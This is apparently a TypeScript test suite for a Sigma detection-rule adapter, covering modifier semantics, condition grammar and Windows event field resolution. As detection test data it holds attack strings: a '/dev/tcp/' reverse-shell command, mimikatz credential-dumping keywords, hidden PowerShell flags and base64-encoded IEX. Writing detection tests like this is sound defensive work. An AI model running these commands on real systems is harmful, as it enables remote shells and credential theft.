/**
 * Sigma adapter: every value modifier and condition form, lowered and evaluated with Sigma's semantics, with the
 * exact rendered condition and exact results on positive and negative events.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { buildSigmaTexts } from '../src/formats/sigma/build.ts';
import { parseCondition } from '../src/formats/sigma/condition.ts';
import { resolveSigmaField } from '../src/formats/sigma/resolve.ts';
import { classify, readSigmaString, wrapPieces } from '../src/formats/sigma/values.ts';
import { evaluate } from '../src/model/evaluate.ts';
import { renderExpr, renderExprPretty } from '../src/model/render.ts';
import type { RuleRecord } from '../src/model/rule.ts';
import { assertGolden, fixture } from './helpers/golden.ts';

const PATH = 'rules/windows/test_rule.yml';

/** One rule from a detection block (indented by 4 spaces under `detection:`). */
function ruleOf(detection: string): RuleRecord {
  const body = detection
    .trim()
    .split('\n')
    .map((l) => `    ${l}`)
    .join('\n');
  const text = `title: Test\nid: 00000000-0000-4000-8000-000000000000\nstatus: test\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n${body}\nlevel: low\n`;
  const res = buildSigmaTexts({ [PATH]: text }).results.get(PATH)!;
  assert.equal(res.rules.length, 1, JSON.stringify(res.diagnostics));
  return res.rules[0]!;
}

const run = (r: RuleRecord, event: unknown) => evaluate(r.logic.condition!, event, { resolve: resolveSigmaField });

interface Case {
  readonly name: string;
  readonly detection: string;
  readonly rendered: string;
  readonly positive: readonly unknown[];
  readonly negative: readonly unknown[];
}

const b64 = (s: string, enc: BufferEncoding = 'latin1') => Buffer.from(s, enc).toString('base64');

const MODIFIER_CASES: readonly Case[] = [
  {
    name: 'plain value: case-insensitive equality',
    detection: "selection:\n    Image: 'C:\\Windows\\System32\\cmd.exe'\ncondition: selection",
    rendered: 'Image eq[ci] "C:\\\\Windows\\\\System32\\\\cmd.exe"',
    positive: [{ Image: 'C:\\Windows\\System32\\cmd.exe' }, { Image: 'c:\\windows\\system32\\CMD.EXE' }],
    negative: [{ Image: 'C:\\Windows\\System32\\cmd.exe ' }, {}],
  },
  {
    name: 'value list: OR, as in',
    detection: "selection:\n    Image:\n        - 'a.exe'\n        - 'b.exe'\ncondition: selection",
    rendered: 'Image in[ci] ["a.exe", "b.exe"]',
    positive: [{ Image: 'B.EXE' }],
    negative: [{ Image: 'c.exe' }],
  },
  {
    name: 'numbers stay numbers, loose typing',
    detection: 'selection:\n    EventID: 4688\ncondition: selection',
    rendered: 'EventID eq 4688',
    positive: [{ EventID: 4688 }, { EventID: '4688' }],
    negative: [{ EventID: 4689 }, { EventID: '04689' }],
  },
  {
    name: 'contains',
    detection: "selection:\n    CommandLine|contains: 'whoami'\ncondition: selection",
    rendered: 'CommandLine contains "whoami"',
    positive: [{ CommandLine: 'cmd /c WHOAMI /all' }],
    negative: [{ CommandLine: 'who ami' }, {}],
  },
  {
    name: 'startswith',
    detection: "selection:\n    CommandLine|startswith: 'net '\ncondition: selection",
    rendered: 'CommandLine starts_with "net "',
    positive: [{ CommandLine: 'NET user' }],
    negative: [{ CommandLine: 'c:\\net user' }],
  },
  {
    name: 'endswith with a list',
    detection: "selection:\n    Image|endswith:\n        - '\\powershell.exe'\n        - '\\pwsh.exe'\ncondition: selection",
    rendered: 'Image ends_with ["\\\\powershell.exe", "\\\\pwsh.exe"]',
    positive: [{ Image: 'C:\\x\\PWSH.exe' }],
    negative: [{ Image: 'C:\\x\\pwsh.exe.bak' }],
  },
  {
    name: 'contains|all',
    detection: "selection:\n    CommandLine|contains|all:\n        - '-nop'\n        - '-w hidden'\ncondition: selection",
    rendered: 'CommandLine contains[all] ["-nop", "-w hidden"]',
    positive: [{ CommandLine: 'powershell -NoP -nop -w hidden' }],
    negative: [{ CommandLine: 'powershell -nop' }],
  },
  {
    name: 'inner wildcards: wildcard op',
    detection: "selection:\n    CommandLine: '*powershell*-enc*'\ncondition: selection",
    rendered: 'CommandLine wildcard "*powershell*-enc*"',
    positive: [{ CommandLine: 'C:\\PowerShell.exe -Enc AAA' }],
    negative: [{ CommandLine: 'powershell -e AAA' }],
  },
  {
    name: 'edge wildcards: ends_with with the same meaning',
    detection: "selection:\n    ParentImage: '*\\explorer.exe'\ncondition: selection",
    rendered: 'ParentImage ends_with "\\\\explorer.exe"',
    positive: [{ ParentImage: 'C:\\Windows\\explorer.exe' }],
    negative: [{ ParentImage: 'C:\\Windows\\explorer.exe2' }],
  },
  {
    name: '? matches one character',
    detection: "selection:\n    User: 'adm?n'\ncondition: selection",
    rendered: 'User wildcard "adm?n"',
    positive: [{ User: 'admin' }, { User: 'ADMAN' }],
    negative: [{ User: 'admiin' }, { User: 'admn' }],
  },
  {
    name: 'escaped wildcards are literal; \\\\ is one backslash',
    detection: "selection:\n    CommandLine: 'a\\*b\\?c\\\\*'\ncondition: selection",
    rendered: 'CommandLine starts_with "a*b?c\\\\"',
    positive: [{ CommandLine: 'a*b?c\\tail' }],
    negative: [{ CommandLine: 'aXb?c\\tail' }, { CommandLine: 'a*bXc\\' }],
  },
  {
    name: 're: case-sensitive regex',
    detection: "selection:\n    CommandLine|re: '^cmd\\.exe /c [a-z]+$'\ncondition: selection",
    rendered: 'CommandLine regex "^cmd\\\\.exe /c [a-z]+$"',
    positive: [{ CommandLine: 'cmd.exe /c dir' }],
    negative: [{ CommandLine: 'CMD.exe /c dir' }, { CommandLine: 'cmd.exe /c DIR' }],
  },
  {
    name: 're|i',
    detection: "selection:\n    CommandLine|re|i: 'invoke-(expression|webrequest)'\ncondition: selection",
    rendered: 'CommandLine regex[flags=i] "invoke-(expression|webrequest)"',
    positive: [{ CommandLine: 'IEX; Invoke-Expression $x' }],
    negative: [{ CommandLine: 'Invoke-Command' }],
  },
  {
    name: 're|s: dot matches newline',
    detection: "selection:\n    Payload|re|s: 'a.b'\ncondition: selection",
    rendered: 'Payload regex[flags=s] "a.b"',
    positive: [{ Payload: 'a\nb' }],
    negative: [{ Payload: 'a\n\nb' }],
  },
  {
    name: 're|m: ^ at line starts',
    detection: "selection:\n    Payload|re|m: '^second'\ncondition: selection",
    rendered: 'Payload regex[flags=m] "^second"',
    positive: [{ Payload: 'first\nsecond' }],
    negative: [{ Payload: 'first second' }],
  },
  {
    name: 'base64 (whole value)',
    detection: "selection:\n    Data|base64: 'abc'\ncondition: selection",
    rendered: 'Data eq[ci,base64] "abc"',
    positive: [{ Data: b64('abc') }],
    negative: [{ Data: 'abc' }],
  },
  {
    name: 'base64|contains',
    detection: "selection:\n    CommandLine|base64|contains: 'http://'\ncondition: selection",
    rendered: 'CommandLine contains[base64] "http://"',
    // base64 without offsets only finds the value at a 3-byte boundary with its padding stripped (Sigma semantics;
    // base64offset exists for the other alignments)
    positive: [{ CommandLine: `x ${b64('http://')}` }, { CommandLine: `x ${b64('abchttp://')}` }],
    negative: [{ CommandLine: 'http://evil' }, { CommandLine: `x ${b64('http://evil')}` }],
  },
  {
    name: 'base64offset|contains: all three offsets',
    detection: "selection:\n    CommandLine|base64offset|contains: 'IEX'\ncondition: selection",
    rendered: 'CommandLine contains[base64offset] "IEX"',
    positive: [{ CommandLine: `-enc ${b64('IEX (x)')}` }, { CommandLine: `-enc ${b64('aIEX (x)')}` }, { CommandLine: `-enc ${b64('abIEX (x)')}` }],
    negative: [{ CommandLine: '-enc IEX' }, { CommandLine: `-enc ${b64('IEY (x)')}` }],
  },
  {
    name: 'wide|base64offset|contains: UTF-16LE then base64',
    detection: "selection:\n    CommandLine|wide|base64offset|contains: 'ping'\ncondition: selection",
    rendered: 'CommandLine contains[wide,base64offset] "ping"',
    positive: [{ CommandLine: `-e ${b64('cmd /c ping 1.1.1.1', 'utf16le')}` }, { CommandLine: `-e ${b64('/c ping x', 'utf16le')}` }],
    negative: [{ CommandLine: `-e ${b64('cmd /c ping 1.1.1.1')}` }],
  },
  {
    name: 'utf16le|base64offset|contains',
    detection: "selection:\n    Payload|utf16le|base64offset|contains: 'ab'\ncondition: selection",
    rendered: 'Payload contains[utf16le,base64offset] "ab"',
    positive: [{ Payload: b64('xxab', 'utf16le') }],
    negative: [{ Payload: b64('xxab') }],
  },
  {
    name: 'utf16be|base64|contains',
    detection: "selection:\n    Payload|utf16be|base64|contains: 'ab'\ncondition: selection",
    rendered: 'Payload contains[utf16be,base64] "ab"',
    positive: [{ Payload: Buffer.from([0, 0x61, 0, 0x62, 0, 0x63]).toString('base64') }],
    negative: [{ Payload: b64('ab', 'utf16le') }],
  },
  {
    name: 'contains|windash: every dash spelling',
    detection: "selection:\n    CommandLine|contains|windash: ' -exec bypass'\ncondition: selection",
    rendered: 'CommandLine contains[windash] " -exec bypass"',
    positive: [{ CommandLine: 'ps -exec bypass' }, { CommandLine: 'ps /exec bypass' }, { CommandLine: 'ps \u2013exec bypass' }, { CommandLine: 'ps \u2014exec bypass' }],
    negative: [{ CommandLine: 'ps exec bypass' }],
  },
  {
    name: 'cidr (IPv4 and IPv6)',
    detection: "selection:\n    DestinationIp|cidr:\n        - '10.0.0.0/8'\n        - 'fe80::/10'\ncondition: selection",
    rendered: 'DestinationIp cidr ["10.0.0.0/8", "fe80::/10"]',
    positive: [{ DestinationIp: '10.1.2.3' }, { DestinationIp: 'fe80::1' }],
    negative: [{ DestinationIp: '11.0.0.1' }, { DestinationIp: '2001:db8::1' }, {}],
  },
  {
    name: 'exists: true',
    detection: 'selection:\n    Hashes|exists: true\ncondition: selection',
    rendered: 'Hashes is_not_null',
    positive: [{ Hashes: 'MD5=1' }, { Hashes: '' }],
    negative: [{}, { Hashes: null }],
  },
  {
    name: 'exists: false',
    detection: 'selection:\n    Signature|exists: false\ncondition: selection',
    rendered: 'Signature is_null',
    positive: [{}],
    negative: [{ Signature: 'x' }],
  },
  {
    name: 'fieldref',
    detection: 'selection:\n    Image|fieldref: ParentImage\ncondition: selection',
    // both missing (or null) is no match, as Sigma's backends compare fields
    rendered: 'ParentImage is_not_null and Image eq[ci] field(ParentImage)',
    positive: [{ Image: 'C:\\a.exe', ParentImage: 'c:\\A.exe' }],
    negative: [{ Image: 'C:\\a.exe', ParentImage: 'C:\\b.exe' }, { Image: 'C:\\a.exe' }, { ParentImage: 'C:\\a.exe' }, {}, { Image: null, ParentImage: null }],
  },
  {
    name: 'fieldref|endswith',
    detection: 'selection:\n    CommandLine|fieldref|endswith: Image\ncondition: selection',
    rendered: 'CommandLine ends_with field(Image)',
    positive: [{ CommandLine: 'run C:\\a.exe', Image: 'C:\\a.exe' }],
    negative: [{ CommandLine: 'C:\\a.exe run', Image: 'C:\\a.exe' }],
  },
  {
    name: 'gt and lte',
    detection: 'selection:\n    Size|gt: 100\n    Size|lte: 2000\ncondition: selection',
    rendered: 'Size gt 100 and Size le 2000',
    positive: [{ Size: 101 }, { Size: '2000' }],
    negative: [{ Size: 100 }, { Size: 2001 }, {}],
  },
  {
    name: 'gte and lt',
    detection: 'selection:\n    Count|gte: 1\n    Count|lt: 5\ncondition: selection',
    rendered: 'Count ge 1 and Count lt 5',
    positive: [{ Count: 1 }, { Count: 4.5 }],
    negative: [{ Count: 0 }, { Count: 5 }],
  },
  {
    name: 'cased',
    detection: "selection:\n    Product|cased: 'Microsoft Windows'\ncondition: selection",
    rendered: 'Product eq "Microsoft Windows"',
    positive: [{ Product: 'Microsoft Windows' }],
    negative: [{ Product: 'microsoft windows' }],
  },
  {
    name: 'contains|cased',
    detection: "selection:\n    Product|contains|cased: 'Soft'\ncondition: selection",
    rendered: 'Product contains[cs] "Soft"',
    positive: [{ Product: 'MicroSoft' }],
    negative: [{ Product: 'Microsoft' }],
  },
  {
    name: 'null is is_null, not empty equality',
    detection: 'selection:\n    OriginalFileName: null\ncondition: selection',
    rendered: 'OriginalFileName is_null',
    positive: [{}, { OriginalFileName: null }],
    negative: [{ OriginalFileName: '' }, { OriginalFileName: 'x' }],
  },
  {
    name: "empty string is eq ''",
    detection: "selection:\n    Description: ''\ncondition: selection",
    rendered: 'Description eq[ci] ""',
    positive: [{ Description: '' }],
    negative: [{}, { Description: 'x' }],
  },
  {
    name: 'null or empty',
    detection: "selection:\n    Company:\n        - null\n        - ''\ncondition: selection",
    rendered: 'Company is_null or Company eq[ci] ""',
    positive: [{}, { Company: '' }],
    negative: [{ Company: 'ACME' }],
  },
  {
    name: 'mixed value list: each value its own operator',
    detection: "selection:\n    CommandLine:\n        - 'exact'\n        - '*suffix'\n        - 'prefix*'\n        - 'a*b'\ncondition: selection",
    rendered: 'CommandLine eq[ci] "exact" or CommandLine ends_with "suffix" or CommandLine starts_with "prefix" or CommandLine wildcard "a*b"',
    positive: [{ CommandLine: 'EXACT' }, { CommandLine: 'x suffix' }, { CommandLine: 'prefix x' }, { CommandLine: 'a--b' }],
    negative: [{ CommandLine: 'exact!' }, { CommandLine: 'suffix x' }, { CommandLine: 'a--b!' }],
  },
  {
    name: 'list of maps: OR of ANDs',
    detection: "selection:\n    - Image|endswith: '\\whoami.exe'\n    - OriginalFileName: 'whoami.exe'\n      User: 'x'\ncondition: selection",
    rendered: 'Image ends_with "\\\\whoami.exe" or (OriginalFileName eq[ci] "whoami.exe" and User eq[ci] "x")',
    positive: [{ Image: 'C:\\whoami.exe' }, { OriginalFileName: 'WHOAMI.EXE', User: 'X' }],
    negative: [{ OriginalFileName: 'whoami.exe' }],
  },
  {
    name: 'keywords: full-text search over every value',
    detection: "keywords:\n    - 'mimikatz'\n    - 'sekurlsa*logon'\ncondition: keywords",
    rendered: '_keywords contains "mimikatz" or _keywords wildcard "*sekurlsa*logon*"',
    positive: [{ msg: 'ran MIMIKATZ' }, { a: { b: ['x', 'sekurlsa::logonpasswords'] } }],
    negative: [{ msg: 'nothing here' }, { mimikatz: 'key names are not values' }],
  },
  {
    name: 'keywords with |all',
    detection: "keywords:\n    '|all':\n        - 'bash -c'\n        - '/dev/tcp/'\ncondition: keywords",
    rendered: '_keywords contains[all] ["bash -c", "/dev/tcp/"]',
    positive: [{ cmd: 'bash -c "exec >& /dev/tcp/10.0.0.1/80"' }, { a: 'bash -c x', b: 'y /dev/tcp/' }],
    negative: [{ cmd: 'bash -c id' }],
  },
  {
    name: 'numeric keywords',
    detection: 'keywords:\n    - 4625\ncondition: keywords',
    rendered: '_keywords contains "4625"',
    positive: [{ EventID: 4625 }],
    negative: [{ EventID: 4624 }],
  },
];

describe('sigma value modifiers', () => {
  for (const c of MODIFIER_CASES) {
    it(c.name, () => {
      const r = ruleOf(c.detection);
      assert.equal(renderExpr(r.logic.condition!), c.rendered);
      assert.equal(r.logic.completeness, 'complete');
      assert.deepEqual(r.diagnostics, []);
      c.positive.forEach((e, i) => assert.equal(run(r, e), true, `positive #${i}: ${JSON.stringify(e)}`));
      c.negative.forEach((e, i) => assert.equal(run(r, e), false, `negative #${i}: ${JSON.stringify(e)}`));
    });
  }

  it('expand: the placeholder is kept opaque with its reason (partial, unknown)', () => {
    const r = ruleOf("selection:\n    EventID: 4624\nfilter:\n    IpAddress|expand: '%admin_hosts%'\ncondition: selection and not filter");
    assert.equal(renderExpr(r.logic.condition!), '(EventID eq 4624) and not (<opaque: IpAddress|expand: "%admin_hosts%">)');
    assert.equal(r.logic.completeness, 'partial');
    assert.match(r.logic.missing[0]!.reason, /^expand: placeholder %admin_hosts%/);
    assert.equal(run(r, { EventID: 4624 }), 'unknown');
    assert.equal(run(r, { EventID: 4625 }), false);
  });
});

describe('sigma values of a shape Sigma does not allow', () => {
  it('an unquoted *…* is a YAML alias: SIG011 saying so, and the item is unknown (partial), not false (complete)', () => {
    const r = ruleOf('selection:\n    CommandLine:\n        - *powershell*regsvr32*\n        - \'*mshta*\'\ncondition: selection');
    assert.deepEqual(r.diagnostics.map((d) => d.code), ['SIG011']);
    assert.match(r.diagnostics[0]!.message, /not the YAML alias \*powershell\*regsvr32\* \(a value starting with \* must be quoted\)/);
    assert.equal(r.logic.completeness, 'partial');
    assert.equal(run(r, { CommandLine: 'mshta.exe x' }), true); // the value that was read still matches
    assert.equal(run(r, { CommandLine: 'cmd.exe' }), 'unknown');
    // with |all every value must hold: one not read makes a match unknown
    const all = ruleOf("selection:\n    CommandLine|contains|all:\n        - a: 1\n        - 'x'\ncondition: selection");
    assert.equal(run(all, { CommandLine: 'x' }), 'unknown');
    assert.equal(run(all, { CommandLine: 'y' }), false);
  });
});

/** One file outside SigmaHQ's rule folders, built alone: it must parse; its diagnostics (code:severity:line) and rule. */
function parsedAlone(path: string, text: string): { diags: string[]; rule: RuleRecord } {
  const res = buildSigmaTexts({ [path]: text }).results.get(path)!;
  assert.equal(res.outcome, 'parsed');
  return { diags: res.diagnostics.map((d) => `${d.code}:${d.severity}:${d.line}`), rule: res.rules[0]! };
}

describe('sigma: a correlation written as text', () => {
  it('`correlation: <text>` beside a detection is a note (SIG023 warning at its line); the rule is read from its detection', () => {
    const text = "title: T\ncorrelation: correlate SubjectLogonId from 5145 with TargetLogonId from 4624\nlogsource:\n    product: windows\ndetection:\n    selection:\n        EventID: 5145\n    condition: selection\n";
    const { diags, rule: r } = parsedAlone('windows/x.yml', text);
    assert.deepEqual(diags, ['SIG023:warning:2']);
    assert.equal(r.kind, 'detection');
    assert.equal(r.logic.completeness, 'complete');
    assert.equal(renderExpr(r.logic.condition!), 'EventID eq 5145');
  });
});

describe('sigma files that do not parse', () => {
  it('outside the rule folders, a rule that fails to parse (a broken flow list) is an error at its line; other YAML is skipped', () => {
    const rule = "title: T\nlogsource:\n    product: windows\ndetection:\n    selection:\n        CommandLine|contains: ['a', 'b'\n    condition: selection\n";
    const res = buildSigmaTexts({ 'windows/broken.yml': rule, 'config/tool.yml': 'a: [1\n' }).results;
    const broken = res.get('windows/broken.yml')!;
    assert.equal(broken.outcome, 'error');
    assert.ok(broken.diagnostics.length > 0 && broken.diagnostics.every((d) => d.code === 'SIG001' && typeof d.line === 'number'), JSON.stringify(broken.diagnostics));
    assert.equal(res.get('config/tool.yml')!.outcome, 'skipped');
  });
  it('a key written twice in one map is read as PyYAML (and so pySigma) reads it: the last one, with a warning at the second', () => {
    const rule = "title: T\nlogsource:\n    product: windows\ndetection:\n    selection:\n        CommandLine|contains: 'a'\n        CommandLine|contains: 'b'\n    condition: selection\n";
    const { diags, rule: r } = parsedAlone('windows/dup.yml', rule);
    assert.deepEqual(diags, ['SIG024:warning:7']);
    assert.equal(renderExpr(r.logic.condition!), 'CommandLine contains "b"');
    assert.equal(r.logic.completeness, 'complete');
  });
});

describe('sigma wildcard classification', () => {
  const cls = (s: string, wrap?: 'both' | 'start' | 'end') => classify(wrapPieces(readSigmaString(s), wrap));
  it('keeps meaning while choosing the most specific operator', () => {
    assert.deepEqual(cls('abc'), { op: 'eq', value: 'abc' });
    assert.deepEqual(cls('*abc*'), { op: 'contains', value: 'abc' });
    assert.deepEqual(cls('**abc'), { op: 'ends_with', value: 'abc' });
    assert.deepEqual(cls('abc', 'both'), { op: 'contains', value: 'abc' });
    assert.deepEqual(cls('*abc', 'both'), { op: 'contains', value: 'abc' });
    assert.deepEqual(cls('a*c', 'end'), { op: 'wildcard', value: 'a*c*' });
    assert.deepEqual(cls('*'), { op: 'wildcard', value: '*' });
    assert.deepEqual(cls(''), { op: 'eq', value: '' });
    assert.deepEqual(cls('a\\*b*'), { op: 'starts_with', value: 'a*b' });
    // a literal backslash before a wildcard is escaped in the model's glob
    assert.deepEqual(cls('x\\\\*y'), { op: 'wildcard', value: 'x\\\\*y' });
    // Sigma: `\*` is an escaped asterisk, so 'C:\dir\*.exe' is the literal text C:\dir*.exe
    assert.deepEqual(cls('C:\\dir\\*.exe'), { op: 'eq', value: 'C:\\dir*.exe' });
    assert.deepEqual(cls('C:\\dir\\\\*.exe'), { op: 'wildcard', value: 'C:\\dir\\\\*.exe' });
    // escapes at either edge, a trailing backslash, escapes back to back (literal text is read in runs between them)
    assert.deepEqual(cls('\\?x?'), { op: 'wildcard', value: '\\?x?' });
    assert.deepEqual(cls('ab\\'), { op: 'eq', value: 'ab\\' });
    assert.deepEqual(cls('\\\\\\*'), { op: 'eq', value: '\\*' });
    assert.deepEqual(cls('\\*\\*long literal text past a dozen characters\\?', 'start'), { op: 'ends_with', value: '**long literal text past a dozen characters?' });
  });
  it('glob with an escaped backslash before a wildcard matches a literal backslash', () => {
    const r = ruleOf("selection:\n    Path: 'C:\\dir\\\\*.exe'\ncondition: selection");
    assert.equal(run(r, { Path: 'C:\\dir\\a.exe' }), true);
    assert.equal(run(r, { Path: 'C:\\dirXa.exe' }), false);
  });
});

describe('sigma condition forms', () => {
  const DET = `sel1:
    A: 1
sel2:
    B: 2
filter_a:
    C: 3
filter_b:
    D: 4
_hidden:
    E: 5`;
  const forms: readonly { cond: string; rendered: string; pos: unknown[]; neg: unknown[] }[] = [
    { cond: 'sel1 and sel2', rendered: '(A eq 1) and (B eq 2)', pos: [{ A: 1, B: 2 }], neg: [{ A: 1 }] },
    { cond: 'sel1 or sel2', rendered: '(A eq 1) or (B eq 2)', pos: [{ B: 2 }], neg: [{ C: 3 }] },
    { cond: 'not sel1', rendered: 'not (A eq 1)', pos: [{}], neg: [{ A: 1 }] },
    { cond: 'sel1 and (sel2 or not filter_a)', rendered: '(A eq 1) and ((B eq 2) or not (C eq 3))', pos: [{ A: 1 }, { A: 1, B: 2, C: 3 }], neg: [{ A: 1, C: 3 }] },
    { cond: 'not sel1 and sel2 or filter_a', rendered: '(not (A eq 1) and (B eq 2)) or (C eq 3)', pos: [{ B: 2 }, { A: 1, C: 3 }], neg: [{ A: 1, B: 2 }] },
    { cond: 'sel1 AND NOT sel2', rendered: '(A eq 1) and not (B eq 2)', pos: [{ A: 1 }], neg: [{ A: 1, B: 2 }] },
    { cond: '1 of filter_*', rendered: '1 of filter_* {filter_a: C eq 3, filter_b: D eq 4}', pos: [{ D: 4 }], neg: [{ A: 1 }] },
    { cond: 'all of sel*', rendered: 'all of sel* {sel1: A eq 1, sel2: B eq 2}', pos: [{ A: 1, B: 2 }], neg: [{ A: 1 }] },
    { cond: '1 of them', rendered: '1 of them {sel1: A eq 1, sel2: B eq 2, filter_a: C eq 3, filter_b: D eq 4}', pos: [{ D: 4 }], neg: [{ E: 5 }] },
    { cond: 'all of them', rendered: 'all of them {sel1: A eq 1, sel2: B eq 2, filter_a: C eq 3, filter_b: D eq 4}', pos: [{ A: 1, B: 2, C: 3, D: 4 }], neg: [{ A: 1, B: 2, C: 3 }] },
    { cond: '2 of them', rendered: '2 of them {sel1: A eq 1, sel2: B eq 2, filter_a: C eq 3, filter_b: D eq 4}', pos: [{ A: 1, D: 4 }], neg: [{ A: 1, E: 5 }] },
    { cond: 'sel1 and not 1 of filter_*', rendered: '(A eq 1) and not (1 of filter_* {filter_a: C eq 3, filter_b: D eq 4})', pos: [{ A: 1 }], neg: [{ A: 1, D: 4 }] },
    { cond: '_hidden', rendered: 'E eq 5', pos: [{ E: 5 }], neg: [{}] },
    { cond: '( sel1 )', rendered: 'A eq 1', pos: [{ A: 1 }], neg: [{}] },
  ];
  for (const f of forms) {
    it(f.cond, () => {
      const r = ruleOf(`${DET}\ncondition: ${f.cond}`);
      assert.equal(renderExpr(r.logic.condition!), f.rendered);
      assert.deepEqual(r.diagnostics, []);
      for (const e of f.pos) assert.equal(run(r, e), true, JSON.stringify(e));
      for (const e of f.neg) assert.equal(run(r, e), false, JSON.stringify(e));
    });
  }

  it('not 1 of filter_*: each filter an exclusion named by its selection; indicators leave them out', () => {
    const r = ruleOf(`${DET}\ncondition: sel1 and not 1 of filter_*`);
    assert.deepEqual(
      r.logic.exclusions.map((e) => `${e.stage}: ${renderExpr(e.expr)}`),
      ['filter_a: C eq 3', 'filter_b: D eq 4'],
    );
    assert.deepEqual(r.logic.indicators.map((i) => `${i.field} ${i.op} ${JSON.stringify(i.values)}`), ['A eq [1]']);
    const q = (r.logic.condition as unknown as { args: { kind: string; arg?: { kind: string; count?: unknown; selector?: string } }[] }).args[1]!;
    assert.equal(q.kind, 'not');
    assert.equal(q.arg!.kind, 'quant');
    assert.equal(q.arg!.count, 1);
    assert.equal(q.arg!.selector, 'filter_*');
  });

  it('condition lists are ORed (Sigma v1)', () => {
    const r = ruleOf(`${DET}\ncondition:\n    - sel1\n    - sel2`);
    assert.equal(renderExpr(r.logic.condition!), '(A eq 1) or (B eq 2)');
  });

  it('the grammar keeps offsets and rejects garbage without throwing', () => {
    const ok = parseCondition('sel1 and not 1 of filter_*');
    assert.ok(ok.ok);
    if (ok.ok) assert.deepEqual([ok.value.expr.at.start, ok.value.expr.at.end], [0, 26]);
    const bad = parseCondition('sel1 and (');
    assert.equal(bad.ok, false);
    if (!bad.ok) assert.equal(bad.offset, 10);
    assert.equal(parseCondition('a'.repeat(20_000)).ok, false);
    assert.equal(parseCondition('('.repeat(150) + 'a' + ')'.repeat(150)).ok, false);
  });

  it('stages: one per selection and the condition, verbatim with offsets', () => {
    const text = `title: Test\nid: x\nlogsource:\n    product: windows\ndetection:\n    sel1:\n        A: 1\n    condition: sel1\nfields:\n    - A\nlevel: low\n`;
    const r = buildSigmaTexts({ [PATH]: text }).results.get(PATH)!.rules[0]!;
    assert.deepEqual(
      r.logic.stages.map((s) => [s.kind, s.label, s.text, text.slice(s.span!.start, s.span!.end)]),
      [
        ['source', 'logsource', 'logsource:\n    product: windows', 'logsource:\n    product: windows'],
        ['selection', 'sel1', 'sel1:\n        A: 1', 'sel1:\n        A: 1'],
        ['condition', 'condition', 'sel1', 'sel1'],
        ['output', 'fields', 'fields:\n    - A', 'fields:\n    - A'],
      ],
    );
    assert.deepEqual(r.logic.outputFields, [{ name: 'A', source: 'fields' }]);
    assert.equal(r.logic.parser, 'Sigma YAML + condition grammar (peggy)');
  });
});

describe('sigma field resolution in Windows events', () => {
  const ev = {
    Event: {
      System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Security: { '#attributes': { UserID: 'S-1-5-18' } } },
      EventData: { Image: 'C:\\a.exe', 'Source Name': 'Real-Time Protection' },
    },
  };
  it('EventData, System, attributes, spaced names', () => {
    assert.equal(resolveSigmaField(ev, 'Image'), 'C:\\a.exe');
    assert.equal(resolveSigmaField(ev, 'EventID'), 1);
    assert.equal(resolveSigmaField(ev, 'Channel'), 'Microsoft-Windows-Sysmon/Operational');
    assert.equal(resolveSigmaField(ev, 'Provider_Name'), 'Microsoft-Windows-Sysmon');
    assert.equal(resolveSigmaField(ev, 'Security_UserID'), 'S-1-5-18');
    assert.equal(resolveSigmaField(ev, 'SourceName'), 'Real-Time Protection');
    assert.equal(resolveSigmaField(ev, 'Event.EventData.Image'), 'C:\\a.exe');
    assert.equal(resolveSigmaField(ev, 'Missing'), undefined);
  });
  it('EventData.Data lists (#attributes and @Name forms) and UserData', () => {
    const a = { Event: { EventData: { Data: [{ '#attributes': { Name: 'TargetUserName' }, '#text': 'bob' }, { '@Name': 'IpAddress', '#text': '10.0.0.5' }] } } };
    assert.equal(resolveSigmaField(a, 'TargetUserName'), 'bob');
    assert.equal(resolveSigmaField(a, 'IpAddress'), '10.0.0.5');
    const u = { Event: { System: { EventID: 5857 }, UserData: { Operation_StartedOperational: { ProviderName: 'WMIProv' } } } };
    assert.equal(resolveSigmaField(u, 'ProviderName'), 'WMIProv');
  });
  it('a whole rule evaluates on nested and flat events alike', () => {
    const r = ruleOf("selection:\n    EventID: 1\n    Image|endswith: '\\a.exe'\n    Provider_Name: 'microsoft-windows-sysmon'\ncondition: selection");
    assert.equal(run(r, ev), true);
    assert.equal(run(r, { EventID: '1', Image: 'D:\\A.EXE', Provider_Name: 'Microsoft-Windows-Sysmon' }), true);
    assert.equal(run(r, { EventID: 2, Image: 'D:\\A.EXE', Provider_Name: 'Microsoft-Windows-Sysmon' }), false);
  });
});

describe('sigma golden', () => {
  it('modifiers.yml', () => {
    const text = readFileSync(fixture('sigma', 'modifiers.yml'), 'utf8');
    const res = buildSigmaTexts({ 'rules/modifiers.yml': text }).results.get('rules/modifiers.yml')!;
    const r = res.rules[0]!;
    const lines = [
      `id: ${r.id}`,
      `kind: ${r.kind} (${r.kindReason})`,
      `severity: ${r.severity} status: ${r.status}`,
      `logsources: ${r.logSources.map((l) => l.name).join(', ')}`,
      `attack: ${r.attackDeclared.map((a) => `${a.text}${a.techniqueId ? `=${a.techniqueId}` : ''}${a.tactic ? `@${a.tactic}` : ''}`).join(', ')}`,
      `tags: ${r.tags.join(', ')}`,
      `completeness: ${r.logic.completeness}`,
      ...r.logic.missing.map((m) => `missing: ${m.text} | ${m.reason}`),
      ...r.logic.stages.map((s) => `stage ${s.kind} ${s.label} [${s.span?.start}-${s.span?.end}]${s.expr ? `: ${renderExpr(s.expr)}` : ''}`),
      'condition:',
      renderExprPretty(r.logic.condition!),
      ...r.logic.exclusions.map((e) => `exclusion ${e.stage}: ${renderExpr(e.expr)}`),
      ...r.logic.indicators.map((i) => `indicator ${i.field} ${i.op} ${JSON.stringify(i.values)}${i.match ? ` ${i.match}` : ''}`),
      ...r.logic.outputFields.map((o) => `output ${o.name} (${o.source})`),
      ...res.diagnostics.map((d) => `diagnostic ${d.code} ${d.line}:${d.column}`),
    ];
    assertGolden(fixture('sigma', 'modifiers.expected.txt'), lines.join('\n'));
  });
});
